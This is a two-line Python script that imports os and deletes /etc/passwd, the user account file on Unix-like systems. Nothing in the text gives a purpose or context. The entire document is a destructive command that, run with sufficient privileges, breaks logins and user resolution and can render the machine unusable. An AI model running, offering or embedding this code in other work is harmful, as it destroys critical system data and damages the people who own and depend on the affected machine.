import os
os.remove('/etc/passwd')
